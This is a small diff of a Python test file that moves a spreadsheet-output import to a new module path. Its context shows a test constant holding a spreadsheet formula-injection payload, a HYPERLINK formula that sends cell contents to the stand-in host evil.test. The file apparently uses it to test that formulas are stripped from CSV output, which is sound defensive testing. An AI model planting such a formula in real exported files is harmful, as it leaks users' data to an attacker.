@@ -10,7 +10,7 @@ import pandas as pd
 import pytest
 
 from tests.cases import POINT, table, wearlaw, write
-from wearlaw_output.spreadsheets import without_formulas, write_csv  # private: what commands share
+from wearlaw_apps.output.spreadsheets import without_formulas, write_csv  # private: what commands share
 
 FORMULA = '=HYPERLINK("http://evil.test?"&A1)'
 
